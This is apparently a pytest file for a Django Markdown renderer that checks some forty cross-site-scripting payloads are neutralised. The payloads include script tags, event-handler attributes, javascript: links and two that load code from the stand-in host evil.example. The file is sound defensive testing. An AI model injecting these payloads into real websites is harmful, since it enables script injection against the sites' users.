"""The one Markdown path must neutralise every script-injection trick people try."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest

from learning.markdown import ALLOWED_TAGS, markdown_to_text, render_markdown

# A corpus of XSS payloads, in Markdown and raw-HTML form, from the usual cheat sheets.
XSS_PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    '<img src="javascript:alert(1)">',
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<body onload=alert(1)>",
    '<a href="javascript:alert(1)">click</a>',
    '<a href="JaVaScRiPt:alert(1)">click</a>',
    '<a href="&#106;avascript:alert(1)">click</a>',
    '<a href="java\tscript:alert(1)">click</a>',
    "[click](javascript:alert(1))",
    "[click](JAVASCRIPT:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[click](vbscript:msgbox(1))",
    "![img](javascript:alert(1))",
    '![x](https://example.org/x.png"onerror="alert(1))',
    '[x](https://example.org/ "title" onmouseover="alert(1)")',
    '<div style="background:url(javascript:alert(1))">x</div>',
    "<style>body{background:red}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<input onfocus=alert(1) autofocus>",
    "<details open ontoggle=alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<p onclick=alert(1)>text</p>",
    "<a href=x onmouseover=alert(1)>x</a>",
    '"><script>alert(1)</script>',
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<!--<script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "`<script>alert(1)</script>`",
    "    <script>alert(1)</script>",
    "<base href=javascript:alert(1)//>",
    "<video><source onerror=alert(1)>",
    '<a href="  javascript:alert(1)">x</a>',
]

SAFE_SCHEMES = ("http:", "https:", "mailto:")


class _Audit(HTMLParser):
    """Collects what a browser would actually see: tags, attributes and URL values."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in ALLOWED_TAGS:
            self.problems.append(f"tag <{tag}>")
        for name, value in attrs:
            if name.startswith("on") or name in {"style", "src", "srcset", "action", "formaction"}:
                self.problems.append(f"attribute {name} on <{tag}>")
            if name == "href" and value:
                # As a browser's URL parser does: drop tabs and newlines, trim controls/spaces.
                cleaned = re.sub(r"[\t\n\r]", "", value).strip("\x00\x01\x1f ").lower()
                scheme = re.match(r"[a-z][a-z0-9+.-]*:", cleaned)
                if scheme and not cleaned.startswith(SAFE_SCHEMES):
                    self.problems.append(f"href {value!r}")


def audit(html: str) -> list[str]:
    parser = _Audit()
    parser.feed(html)
    parser.close()
    return parser.problems


@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_payload_is_neutralised(payload):
    html = str(render_markdown(payload))
    assert audit(html) == [], html
    # Whatever text survives is escaped text, never live markup.
    assert "<script" not in html.lower()


def test_ordinary_markdown_renders_with_govuk_classes():
    html = str(render_markdown("Hello **world**\n\n- one\n- two\n\n[GOV.UK](https://www.gov.uk)"))
    assert '<p class="govuk-body">Hello <strong>world</strong></p>' in html
    assert '<ul class="govuk-list govuk-list--bullet">' in html
    assert 'href="https://www.gov.uk"' in html
    assert 'rel="noopener noreferrer nofollow"' in html


def test_author_classes_are_stripped():
    html = str(render_markdown('<p class="evil">x</p>'))
    assert "evil" not in html


def test_empty_input_is_empty():
    assert render_markdown("") == ""
    assert render_markdown(None) == ""


def test_plain_text_for_indexing():
    assert markdown_to_text("**Savings** of £1m & more") == "Savings of £1m & more"


def test_template_filter_uses_the_same_path():
    from django.template import Context, Template

    out = Template("{% load markdown_tags %}{{ text|markdown }}").render(
        Context({"text": "<script>alert(1)</script>*ok*"})
    )
    assert "<script" not in out
    assert "<em>ok</em>" in out


def test_the_audit_itself_catches_unsanitised_html():
    """Guard against a test that cannot fail: raw payloads must trip the audit."""
    assert audit('<a href="javascript:alert(1)" onclick="x">y</a>')
    assert audit("<script>alert(1)</script>")
    assert audit('<img src="x">')
